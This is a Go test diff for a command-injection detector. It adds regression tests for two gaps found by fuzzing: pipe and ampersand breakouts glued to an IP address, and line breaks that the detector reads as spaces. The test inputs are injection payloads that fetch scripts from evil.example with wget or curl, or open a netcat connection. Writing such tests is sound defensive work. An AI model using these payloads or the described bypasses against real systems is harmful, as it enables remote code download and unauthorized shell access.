@@ -251,3 +251,36 @@ func FuzzCmdExe(f *testing.F) {
 		}
 	})
 }
+
+// TestCmdExeAttachedBreakout: a single '|' or '&' glued to the word before it is graded
+// "attached" ("name|id", "Q&A" stay benign), and there a strong or network command with
+// a host or URL argument is not found, though cmdexe.go says a strong command (wget,
+// netcat...) is enough after a separator: "127.0.0.1|wget" alone, "127.0.0.1|wget -q
+// http://..." and "127.0.0.1;wget http://..." all match, while the classic ping-form
+// payloads below pass. Found by FuzzCmdExe; not fixed here (test-only change).
+func TestCmdExeAttachedBreakout(t *testing.T) {
+	for _, v := range []string{
+		"127.0.0.1|wget http://evil.example/x.sh",
+		"127.0.0.1&wget http://evil.example/x.sh",
+		"127.0.0.1|wget http://evil.example/x.sh -O /tmp/x.sh",
+		"127.0.0.1|nc 10.0.0.1 4444",
+		"127.0.0.1|curl http://evil.example/x.sh",
+	} {
+		if _, ok := matchCMDEXE(nil, v); !ok {
+			t.Errorf("matchCMDEXE(%q) = false, want true", v)
+		}
+	}
+}
+
+// TestCmdExeLineBreakEndsCommand: a line break ends a command as ';' does, but after a
+// command judged as the start of a value (the value's first word, or any command of a
+// value that is a command line from its first word) the detector reads it as a space:
+// "whoami;id" and "ifconfig;x" match, "whoami\nid" and "ifconfig\nx" do not. Found by
+// FuzzCmdExe; not fixed here (test-only change).
+func TestCmdExeLineBreakEndsCommand(t *testing.T) {
+	for _, v := range []string{"whoami\nid", "ifconfig\nx", "ls\nwhoami\nx", "w | whoami\r\nw"} {
+		if _, ok := matchCMDEXE(nil, v); !ok {
+			t.Errorf("matchCMDEXE(%q) = false, want true", v)
+		}
+	}
+}
